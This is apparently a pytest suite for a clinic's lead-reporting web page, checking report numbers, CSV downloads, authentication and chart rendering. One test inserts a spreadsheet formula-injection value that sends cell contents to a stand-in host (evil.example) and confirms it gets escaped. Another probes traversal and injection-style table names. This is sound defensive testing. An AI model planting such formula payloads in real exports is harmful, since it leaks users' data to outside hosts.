"""The reports page at /reports/: login, the weekly series, the CSV files, the charts drawn.

A small dataset of leads, placed in the two weeks before the current one (clinic time),
goes through the real report build; every number below follows from it by hand. The
browser test adds a few months of generated leads for a realistic picture (set
IDENT_REPORTS_SCREENSHOT to a path to keep a screenshot: docs/reports.png is made this way).
"""

from __future__ import annotations

import csv
import io
import json
import os
import random
import re
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from urllib.parse import parse_qs, urlsplit
from zoneinfo import ZoneInfo

import psycopg
import pytest
import requests
from playwright.sync_api import expect
from test_inbox_browser import browser_page  # noqa: F401  (a fixture)

from ident_hooks.costs import CampaignDay
from ident_hooks.costs.store import replace_days
from ident_hooks.reports.build import build_reports

ROOT = Path(__file__).resolve().parents[2]
REPORTS = "/reports"
MSK = ZoneInfo("Europe/Moscow")
CSV_TABLES = (
    "leads_daily",
    "campaigns",
    "response_time",
    "doctor_demand",
    "campaign_roi",
    "patients_by_channel",
    "calls_daily",
)
P1, P2, P3, P4 = "+79160000001", "+79160000002", "+79160000003", "+79160000004"


@dataclass(frozen=True)
class Lead:
    source: str
    created: datetime
    phone: str | None
    utm: tuple[str | None, str | None, str | None] = (None, None, None)
    referrer_host: str | None = None
    doctor: str | None = None
    status: str = "done"
    response: int | None = None  # seconds until taken; None = never taken


def this_monday() -> date:
    today = datetime.now(MSK).date()
    return today - timedelta(days=today.weekday())


def at(monday: date, days: int, hour: int) -> datetime:
    return datetime(monday.year, monday.month, monday.day, hour, tzinfo=MSK) + timedelta(days)


def known_leads(monday: date) -> list[Lead]:
    """Two weeks ago: paid A (2 min), aggregator B (10 min). Last week: paid C (1 min, asked
    for doctor r1, converted), organic D (never taken), paid E (3 min), spam F."""
    w2, w1 = monday - timedelta(weeks=2), monday - timedelta(weeks=1)
    return [
        Lead("uis", at(w2, 1, 10), P3, ("google", "cpc", "brand"), response=120),
        Lead("napopravku", at(w2, 2, 11), P4, response=600),
        Lead("site_main", at(w1, 1, 10), P1, ("yandex", "cpc", "implant"), "yandex.ru",
             doctor="r1", response=60),
        Lead("site_main", at(w1, 2, 12), None, referrer_host="google.ru", status="new"),
        Lead("flexbe", at(w1, 3, 9), P2, ("yandex", "cpc", "implant"), response=200),
        Lead("flexbe", at(w1, 4, 9), "+79160000009", ("vk", "social", "spring"),
             status="spam", response=30),
    ]  # fmt: skip


def insert_leads(conn: psycopg.Connection, leads: list[Lead], prefix: str) -> None:
    for number, lead in enumerate(leads):
        taken = None if lead.response is None else lead.created + timedelta(seconds=lead.response)
        closed = taken + timedelta(minutes=1) if taken and lead.status != "in_progress" else None
        conn.execute(
            "insert into integration.leads (source, external_id, created_at, loaded_at,"
            " source_updated_at, name, phone_raw, phone_e164, utm_source, utm_medium,"
            " utm_campaign, referrer_host, branch_id, doctor_id, raw, status, taken_by,"
            " taken_at, closed_by, closed_at)"
            " values (%s, %s, %s, %s, %s, 'Пациент', %s, %s, %s, %s, %s, %s, 'msk', %s, '{}',"
            " %s, %s, %s, %s, %s)",
            (lead.source, f"{prefix}{number}", lead.created, lead.created, lead.created,
             lead.phone, lead.phone, *lead.utm, lead.referrer_host, lead.doctor, lead.status,
             "admin" if taken else None, taken, "admin" if closed else None, closed),
        )  # fmt: skip
    conn.commit()


def insert_appointment(conn: psycopg.Connection, appointment_id: str, phone, created) -> None:
    starts = created + timedelta(days=2)
    conn.execute(
        "insert into clinic.appointments (appointment_id, doctor_id, branch_id, starts_at,"
        " ends_at, patient_phone, created_at) values (%s, 'r1', 'msk', %s, %s, %s, %s)",
        (appointment_id, starts, starts + timedelta(minutes=30), phone, created),
    )
    conn.commit()


def import_known_costs(conn: psycopg.Connection, monday: date) -> None:
    """Direct spent 500 on "brand" (A's campaign) two weeks ago, 2000 on "implant" (C and
    E) last week."""
    w2, w1 = monday - timedelta(weeks=2), monday - timedelta(weeks=1)
    replace_days(
        conn,
        "direct",
        w2,
        monday,
        [
            CampaignDay(w2 + timedelta(1), 11, "brand", 400, 20, Decimal("500.00")),
            CampaignDay(w1 + timedelta(2), 12, "implant", 900, 60, Decimal("2000.00")),
        ],
        vat_included=True,
    )


def build(conn: psycopg.Connection) -> None:
    build_reports(conn, clinic_timezone="Europe/Moscow", now=datetime.now(UTC), full=True)


def empty_everything(conn: psycopg.Connection) -> None:
    conn.execute(
        "truncate integration.leads, report_build.lead_changes, report_build.lead_facts,"
        " report_build.appointment_phones, report.build_state, report.leads_daily,"
        " report.campaigns, report.response_time, report.doctor_demand, report.ad_costs,"
        " report.campaign_roi, clinic.appointments, clinic.work_intervals, clinic.export_rules,"
        " clinic.export_settings, clinic.doctors, clinic.branches restart identity cascade"
    )
    conn.commit()


@pytest.fixture(scope="module")
def reports_db(clinic_db_url) -> Iterator[psycopg.Connection]:
    """The known dataset, built into the report tables; everything emptied afterwards."""
    with psycopg.connect(clinic_db_url) as conn:
        empty_everything(conn)
        conn.execute("insert into clinic.branches (branch_id, name) values ('msk', 'Москва')")
        conn.execute(
            "insert into clinic.doctors (doctor_id, full_name, specialty)"
            " values ('r1', 'Петров Геннадий Андреевич', 'стоматолог')"
        )
        leads = known_leads(this_monday())
        insert_leads(conn, leads, "known-")
        # C's phone books an hour after C: C converts. Nobody else does.
        insert_appointment(conn, "A-C", P1, leads[2].created + timedelta(hours=1))
        # ... and comes two days later, a new patient who pays 6000.
        conn.execute(
            "update clinic.appointments set status = 'completed', amount = 6000"
            " where appointment_id = 'A-C'"
        )
        import_known_costs(conn, this_monday())
        build(conn)
        yield conn
        empty_everything(conn)


def _get_csv(session: requests.Session, server, table: str) -> requests.Response:
    return session.get(server.url(f"{REPORTS}/csv/{table}"), timeout=30)


def _rows(response: requests.Response) -> list[dict[str, str]]:
    assert response.content.startswith(b"\xef\xbb\xbf")  # UTF-8 byte order mark, for Excel
    text = response.content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text), delimiter=";"))


def _columns(conn: psycopg.Connection, table: str) -> list[str]:
    rows = conn.execute(
        "select column_name from information_schema.columns"
        " where table_schema = 'report' and table_name = %s order by ordinal_position",
        (table,),
    ).fetchall()
    conn.commit()
    return [name for (name,) in rows]


def test_importing_the_plugin_loads_no_web_or_database_stack():
    probe = """
import json, sys
import airflow.plugins_manager
before = set(sys.modules)
from ident_hooks.airflow_plugins import IdentReportsPlugin
plugin = IdentReportsPlugin
print(json.dumps({"new_modules": sorted(set(sys.modules) - before),
                  "app": plugin.fastapi_apps[0], "view": plugin.external_views[0]}, default=str))
"""
    env = {**os.environ, "PYTHONPATH": str(ROOT / "plugins")}
    result = subprocess.run(
        [sys.executable, "-c", probe], env=env, capture_output=True, text=True, check=True
    )
    loaded = json.loads(result.stdout.strip().splitlines()[-1])
    heavy = ("fastapi", "starlette", "jinja2", "psycopg", "pandas")
    assert not [m for m in loaded["new_modules"] if m.split(".")[0] in heavy]
    assert not [m for m in loaded["new_modules"] if m.startswith("ident_hooks.reports")]
    assert loaded["app"]["url_prefix"] == REPORTS
    assert (loaded["view"]["name"], loaded["view"]["href"]) == ("Отчёты", "/reports/")


def test_the_plugin_adds_the_app_and_a_navigation_link(airflow_web):
    plugins = airflow_web.bearer_session().get(airflow_web.url("/api/v2/plugins"), timeout=30)
    names = [p["name"] for p in plugins.json()["plugins"]]
    assert {"ident_inbox", "ident_reports"} <= set(names)
    reports = next(p for p in plugins.json()["plugins"] if p["name"] == "ident_reports")
    assert reports["fastapi_apps"][0]["url_prefix"] == REPORTS
    view = reports["external_views"][0]
    assert (view["name"], view["href"], view["destination"]) == ("Отчёты", "/reports/", "nav")
    assert view["nav_top_level"] is True
    icon = requests.get(airflow_web.url(view["icon"]), timeout=30)  # static: no login
    assert icon.status_code == 200 and icon.headers["content-type"].startswith("image/svg")


def test_anonymous_visitors_are_refused(airflow_web, reports_db):
    anonymous = requests.Session()
    page = anonymous.get(airflow_web.url(f"{REPORTS}/?weeks=4"), allow_redirects=False, timeout=30)
    assert page.status_code == 303
    login = urlsplit(page.headers["location"])
    assert login.path == "/auth/login"
    assert parse_qs(login.query)["next"] == ["/reports/?weeks=4"]
    series = anonymous.get(airflow_web.url(f"{REPORTS}/api/weekly"), timeout=30)
    assert series.status_code == 401 and "detail" in series.json()
    for table in (*CSV_TABLES, "no_such_table"):
        download = _get_csv(anonymous, airflow_web, table)
        assert download.status_code == 401, table
        assert download.headers["content-type"] == "application/json"
    forged = requests.Session()
    forged.cookies.set("_token", "not-a-jwt", domain="127.0.0.1", path="/")
    assert _get_csv(forged, airflow_web, "campaigns").status_code in (401, 403)
    page = forged.get(airflow_web.url(f"{REPORTS}/"), allow_redirects=False, timeout=30)
    assert page.status_code == 303 and page.headers["location"].startswith("/auth/login")


def test_the_page_opens_with_its_charts_and_downloads(airflow_web, reports_db):
    session = airflow_web.cookie_session("anna")
    page = session.get(airflow_web.url(f"{REPORTS}/?weeks=8"), timeout=30)
    assert page.status_code == 200
    assert '<html lang="ru">' in page.text and "Вы вошли как <strong>anna</strong>" in page.text
    for chart in ("chart-channels", "chart-answered", "chart-campaigns"):
        assert f'id="{chart}"' in page.text
    assert '<option value="8" selected>' in page.text
    for table in CSV_TABLES:
        assert f'href="csv/{table}"' in page.text
    assert page.headers["cache-control"] == "no-store"
    assert page.headers["x-frame-options"] == "SAMEORIGIN"
    assert "script-src 'self'" in page.headers["content-security-policy"]
    script = session.get(airflow_web.url(f"{REPORTS}/static/reports.js"), timeout=30)
    assert script.status_code == 200 and "createElementNS" in script.text


def test_new_and_returning_patients_and_calls_per_channel_are_on_the_page(airflow_web, reports_db):
    session = airflow_web.cookie_session("anna")
    page = session.get(airflow_web.url(f"{REPORTS}/?weeks=4"), timeout=30)
    assert page.status_code == 200
    table = page.text.split('id="chart-people"')[1].split("</table>")[0]
    cells = [
        re.findall(r"<t[hd][^>]*>([^<]*)</t[hd]>", row)
        for row in table.split("<tbody>")[1].split("</tr>")[:-1]
    ]
    # channel, leads, people, leads per person, new, returning, (bar), calls, callers
    assert cells == [
        ["Реклама", "3", "3", "1,00", "3", "0", "0", "0"],
        ["Агрегаторы", "1", "1", "1,00", "1", "0", "0", "0"],
        ["Поиск", "1", "1", "1,00", "1", "0", "0", "0"],
    ]
    assert "Новые и вернувшиеся пациенты, звонки по каналам" in page.text


def test_cost_per_new_patient_and_romi_are_drawn_on_the_page(airflow_web, reports_db):
    session = airflow_web.cookie_session("anna")
    page = session.get(airflow_web.url(f"{REPORTS}/?weeks=4"), timeout=30)
    assert page.status_code == 200
    assert "Окупаемость рекламных кампаний" in page.text and 'id="chart-returns"' in page.text
    rows = page.text.split('id="chart-returns"')[1].split("</table>")[0].split("<tr")[2:]
    nbsp = "\u00a0"
    # implant: 2000 spent, C became a new patient paying 6000: 2000 per new patient,
    # ROMI (6000 - 2000) / 2000 = +200 %, the longest bars. brand: 500 spent, A never
    # came: no new patient, ROMI (0 - 500) / 500 = -100 %, a red bar half as long, left of
    # zero (at 50).
    implant, brand = rows
    assert '<th scope="row">implant</th>' in implant
    for text in (f"2{nbsp}000{nbsp}₽", f"6{nbsp}000{nbsp}₽", f"+200{nbsp}%", "визитов: 1 из 2"):
        assert text in implant
    assert '<rect class="cost" x="0" y="0" width="100.0"' in implant
    assert '<rect class="gain" x="50.0" y="0" width="50.0"' in implant
    assert '<th scope="row">brand</th>' in brand
    for text in (f"500{nbsp}₽", f"-100{nbsp}%", ">—<", "визитов: 0 из 1"):
        assert text in brand
    assert '<rect class="loss" x="25.0" y="0" width="25.0"' in brand


def test_the_weekly_series_of_the_known_dataset(airflow_web, reports_db):
    monday = this_monday()
    response = airflow_web.bearer_session().get(
        airflow_web.url(f"{REPORTS}/api/weekly"), params={"weeks": 3}, timeout=30
    )
    assert response.status_code == 200
    assert response.headers["cache-control"] == "no-store"
    data = response.json()
    assert data["weeks"] == [(monday - timedelta(weeks=n)).isoformat() for n in (2, 1, 0)]
    assert data["built_at"] is not None
    # Spam (F) counts nowhere; this week has no leads yet.
    assert data["leads_by_channel"] == {
        "aggregator": [1, 0, 0],
        "paid": [1, 2, 0],
        "organic": [0, 1, 0],
    }
    assert data["channels"]["paid"]["label"] == "Реклама"
    assert data["channels"]["organic"]["label"] == "Поиск"
    # Two weeks ago: A in 2 min, B in 10 min. Last week: C, E in time, D never taken.
    assert data["answered_in_5_min_share"] == [0.5, 0.6667, None]
    assert data["conversion_by_campaign"] == [
        {"utm_campaign": "implant", "utm_source": "yandex", "utm_medium": "cpc",
         "leads": 2, "converted_leads": 1, "conversion_rate": 0.5},
        {"utm_campaign": "brand", "utm_source": "google", "utm_medium": "cpc",
         "leads": 1, "converted_leads": 0, "conversion_rate": 0.0},
    ]  # fmt: skip
    default = airflow_web.bearer_session().get(airflow_web.url(f"{REPORTS}/api/weekly"), timeout=30)
    assert len(default.json()["weeks"]) == 12
    assert default.json()["leads_by_channel"]["paid"][-3:] == [1, 2, 0]
    for weeks in (0, 500, "x"):
        bad = airflow_web.bearer_session().get(
            airflow_web.url(f"{REPORTS}/api/weekly"), params={"weeks": weeks}, timeout=30
        )
        assert bad.status_code == 422


def test_each_table_downloads_as_csv(airflow_web, reports_db):
    session = airflow_web.cookie_session("admin")
    monday = this_monday()
    w2, w1 = monday - timedelta(weeks=2), monday - timedelta(weeks=1)
    files = {}
    for table in CSV_TABLES:
        # The file is named by the server's clinic date: a request at midnight may see either.
        before = datetime.now(MSK).date().isoformat()
        response = _get_csv(session, airflow_web, table)
        after = datetime.now(MSK).date().isoformat()
        assert response.status_code == 200, table
        assert response.headers["content-type"] == "text/csv; charset=utf-8"
        assert response.headers["content-disposition"] in {
            f'attachment; filename="report_{table}_{day}.csv"' for day in (before, after)
        }
        assert response.headers["cache-control"] == "no-store"
        header = response.content.decode("utf-8-sig").splitlines()[0]
        assert header.split(";") == _columns(reports_db, table)
        assert "+7916" not in response.text and "Пациент" not in response.text
        files[table] = _rows(response)

    # Week, campaign, costs and returns as set up in import_known_costs.
    assert [
        (r["week"], r["campaign"], r["cost"], r["leads"], r["new_patients"], r["revenue"])
        + (r["cost_per_new_patient"], r["romi"])
        for r in files["campaign_roi"]
    ] == [
        (str(w2), "brand", "500,00", "1", "0", "0,00", "", "-1,0000"),
        (str(w1), "implant", "2000,00", "2", "1", "6000,00", "2000,00", "2,0000"),
    ]

    # Everyone is a new patient (C's visit came after C); D has no phone: a person alone.
    assert [
        (r["week"], r["channel"], r["utm_campaign"], r["leads"], r["people"])
        + (r["leads_per_person"], r["new_patients"], r["returning_patients"])
        for r in files["patients_by_channel"]
    ] == [
        (str(w2), "aggregator", "", "1", "1", "1,00", "1", "0"),
        (str(w2), "paid", "brand", "1", "1", "1,00", "1", "0"),
        (str(w1), "organic", "", "1", "1", "1,00", "1", "0"),
        (str(w1), "paid", "implant", "2", "2", "1,00", "2", "0"),
    ]
    assert files["calls_daily"] == []  # no UIS call notifications in this dataset

    daily = files["leads_daily"]
    assert [(r["day"], r["source"], r["channel"]) for r in daily] == [
        (str(w2 + timedelta(1)), "uis", "paid"),
        (str(w2 + timedelta(2)), "napopravku", "aggregator"),
        (str(w1 + timedelta(1)), "site_main", "paid"),
        (str(w1 + timedelta(2)), "site_main", "organic"),
        (str(w1 + timedelta(3)), "flexbe", "paid"),
        (str(w1 + timedelta(4)), "flexbe", "social"),
    ]
    c_day = daily[2]
    assert (c_day["utm_campaign"], c_day["referrer_host"], c_day["leads"]) == (
        "implant",
        "yandex.ru",
        "1",
    )
    assert (c_day["converted_leads"], c_day["conversion_rate"]) == ("1", "1,0000")
    assert c_day["median_response_seconds"] == "60,0"
    assert (daily[5]["leads"], daily[5]["spam_leads"], daily[5]["conversion_rate"]) == (
        "0",
        "1",
        "",
    )

    campaigns = {r["utm_campaign"]: r for r in files["campaigns"]}
    assert sorted(campaigns) == ["brand", "implant", "spring"]
    implant = campaigns["implant"]
    assert (implant["first_day"], implant["last_day"]) == (
        str(w1 + timedelta(1)),
        str(w1 + timedelta(3)),
    )
    assert (implant["leads"], implant["converted_leads"], implant["conversion_rate"]) == (
        "2",
        "1",
        "0,5000",
    )
    assert implant["median_response_seconds"] == "130,0"  # of 60 s and 200 s

    answered = [(r["day"], r["leads"], r["answered_in_5_min"]) for r in files["response_time"]]
    assert answered == [
        (str(w2 + timedelta(1)), "1", "1"),
        (str(w2 + timedelta(2)), "1", "0"),
        (str(w1 + timedelta(1)), "1", "1"),
        (str(w1 + timedelta(2)), "1", "0"),
        (str(w1 + timedelta(3)), "1", "1"),
        (str(w1 + timedelta(4)), "0", "0"),
    ]

    demand = files["doctor_demand"]
    assert [(r["week"], r["doctor_id"], r["leads"], r["free_slots"]) for r in demand] == [
        (str(w1), "r1", "1", "0")
    ]
    assert demand[0]["leads_per_free_slot"] == ""


def test_an_unknown_table_is_not_found(airflow_web, reports_db):
    session = airflow_web.bearer_session()
    for name in ("build_state", "lead_facts", "leads_daily;drop", "..%2Fleads"):
        response = _get_csv(session, airflow_web, name)
        assert response.status_code == 404, name


def test_a_large_table_streams_in_chunks(airflow_web, reports_db):
    weeks = 400
    doctors = [f"x{n:03d}" for n in range(100)]  # 40,000 rows, about 1 MB of CSV
    with reports_db.cursor().copy(
        "copy report.doctor_demand (week, doctor_id, leads, free_slots) from stdin"
    ) as copy:
        for n in range(weeks):
            week = date(2020, 1, 6) + timedelta(weeks=n)
            for doctor in doctors:
                copy.write_row((week, doctor, n % 7, 3))
    reports_db.commit()
    try:
        response = airflow_web.bearer_session().get(
            airflow_web.url(f"{REPORTS}/csv/doctor_demand"), stream=True, timeout=60
        )
        assert response.status_code == 200
        assert "content-length" not in response.headers
        assert response.headers["transfer-encoding"] == "chunked"
        lines = sum(chunk.count(b"\n") for chunk in response.iter_content(64 * 1024))
        assert lines == 1 + weeks * len(doctors) + 1  # header, generated rows, the known row
    finally:
        reports_db.execute("delete from report.doctor_demand where doctor_id like 'x%'")
        reports_db.commit()


# -- the charts in a real browser ------------------------------------------------------------
CAMPAIGNS = [
    ("yandex", "cpc", "implant_autumn", 0.30),
    ("google", "cpc", "brand", 0.45),
    ("vk", "cpc", "braces_kids", 0.18),
    ("yandex", "cpc", "hygiene_promo", 0.35),
    ("telegram", "social", "whitening", 0.12),
]


@pytest.fixture
def months_of_leads(reports_db) -> Iterator[None]:
    """Eleven more weeks of generated leads (seeded), built; the known dataset after."""
    rng = random.Random(6)
    monday = this_monday()
    leads: list[Lead] = []
    bookings: list[tuple[str, datetime]] = []
    for week in range(11, 0, -1):
        start = monday - timedelta(weeks=week)
        for _ in range(rng.randint(22, 40)):
            created = at(start, rng.randint(0, 6), rng.randint(8, 20))
            phone = f"+7926{rng.randint(0, 9_999_999):07d}"
            kind = rng.random()
            utm, referrer, source = (None, None, None), None, "site_main"
            if kind < 0.45:
                utm_source, utm_medium, campaign, conversion = rng.choice(CAMPAIGNS)
                utm, source = (utm_source, utm_medium, campaign), rng.choice(["uis", "flexbe"])
                if rng.random() < conversion:
                    bookings.append((phone, created + timedelta(hours=3)))
            elif kind < 0.7:
                source = rng.choice(["napopravku", "32top"])
            elif kind < 0.85:
                referrer = rng.choice(["yandex.ru", "google.com"])
            elif kind < 0.92:
                referrer = "vk.com"
            # The front desk gets faster week by week: 60 % late at first, 20 % lately.
            slow = 0.6 - 0.04 * (11 - week)
            response = rng.randint(20, 280) if rng.random() > slow else rng.randint(320, 1800)
            leads.append(Lead(source, created, phone, utm, referrer, response=response))
    insert_leads(reports_db, leads, "generated-")
    for number, (phone, created) in enumerate(bookings):
        insert_appointment(reports_db, f"G{number}", phone, created)
    build(reports_db)
    yield
    reports_db.execute("delete from integration.leads where external_id like 'generated-%'")
    reports_db.execute("delete from clinic.appointments where appointment_id like 'G%'")
    reports_db.commit()
    build(reports_db)


def test_the_charts_render_in_a_browser(airflow_web, browser_page, months_of_leads):  # noqa: F811
    page = browser_page
    page.context.add_cookies(
        [{"name": "_token", "value": airflow_web.token("admin"), "url": airflow_web.base_url}]
    )
    page.goto("/")  # the Airflow UI links to the reports next to the inbox
    nav_link = page.get_by_role("button", name="Отчёты")
    assert nav_link.get_attribute("href") == "/reports/"
    assert page.get_by_role("button", name="Заявки").get_attribute("href") == "/inbox/"
    page.goto(nav_link.get_attribute("href"))
    expect(page.locator("body")).to_have_attribute("data-loaded-weeks", "12")

    channel_bars = page.locator("#chart-channels svg rect.bar")
    assert channel_bars.count() >= 12 * 3  # every week has leads of several channels
    assert page.locator("#chart-answered svg rect.bar").count() == 11  # no leads this week
    assert page.locator("#chart-campaigns svg rect.bar").count() == 6  # "brand" is in both
    legend = page.locator("#legend-channels").inner_text()
    for label in ("Агрегаторы", "Реклама", "Поиск", "Соцсети", "Прямые"):
        assert label in legend
    assert "Неделя (дата понедельника)" in page.locator("#chart-channels").inner_text()
    assert "100 %" in page.locator("#chart-answered").inner_text()
    assert "implant_autumn" in page.locator("#chart-campaigns").inner_text()
    assert page.locator("#status").inner_text().startswith("Данные на ")
    assert page.locator("#banner").is_hidden()
    screenshot = os.environ.get("IDENT_REPORTS_SCREENSHOT")  # docs/reports.png is made this way
    if screenshot:
        page.screenshot(path=screenshot, full_page=True)

    page.select_option("#weeks", "4")
    expect(page.locator("body")).to_have_attribute("data-loaded-weeks", "4")
    assert page.url.endswith("/reports/?weeks=4")
    assert page.locator("#chart-answered svg rect.bar").count() == 3
    with page.expect_download() as download:
        page.get_by_role("link", name="Рекламные кампании (UTM) за всё время").click()
    assert download.value.suggested_filename.startswith("report_campaigns_")


def test_text_from_visitors_urls_cannot_become_an_excel_formula(airflow_web, reports_db):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    lead = Lead("uis", at(this_monday() - timedelta(weeks=1), 5, 10), "+79160000077",
                ("google", "cpc", hostile))  # fmt: skip
    insert_leads(reports_db, [lead], "hostile-")
    try:
        build(reports_db)
        rows = _rows(_get_csv(airflow_web.cookie_session("admin"), airflow_web, "campaigns"))
        campaigns = [row["utm_campaign"] for row in rows]
        assert "'" + hostile in campaigns
        assert hostile not in campaigns
    finally:
        reports_db.execute("delete from integration.leads where external_id like 'hostile-%'")
        reports_db.commit()
        build(reports_db)


def test_collisions_per_aggregator_and_week_are_on_the_page(airflow_web, reports_db):
    from ident_hooks.config import load_config
    from ident_hooks.registry import record_instances
    from ident_hooks.reports.tables import rebuild_schedule_collisions

    record_instances(reports_db, load_config())  # the aggregator's title for staff
    reports_db.execute("delete from integration.lead_collisions")  # other tests' leads
    booked = datetime.combine(this_monday() + timedelta(days=1), datetime.min.time(), MSK)
    booked += timedelta(hours=10)
    reports_db.execute(
        "insert into integration.lead_collisions (lead_id, aggregator, doctor_id,"
        " requested_start, booked_at, stored_at, taken, appointment_id, taken_since,"
        " schedule_sent_at) values"
        " (-1, 'napopravku', 'r1', %(at)s, %(booked)s, %(booked)s, true, 'A-1',"
        "  %(booked)s - interval '12 minutes', %(booked)s - interval '20 minutes'),"
        " (-2, 'napopravku', 'r1', %(at)s, %(booked)s, %(booked)s, false, null, null, null)",
        {"at": booked + timedelta(days=2), "booked": booked},
    )
    rebuild_schedule_collisions(reports_db, "Europe/Moscow")
    reports_db.commit()
    try:
        page = airflow_web.cookie_session("anna").get(airflow_web.url(f"{REPORTS}/"), timeout=30)
        assert page.status_code == 200
        week = this_monday().strftime("%d.%m.%Y")
        cells = (week, "НаПоправку", "2", "1", "0", "12.0")
        row = "<tr>" + "".join(f"<td>{cell}</td>" for cell in cells) + "</tr>"
        section = page.text[page.text.index("collisions-title") :]
        assert row in section, section[:2000]
    finally:
        reports_db.execute("delete from integration.lead_collisions")
        rebuild_schedule_collisions(reports_db, "Europe/Moscow")
        reports_db.commit()
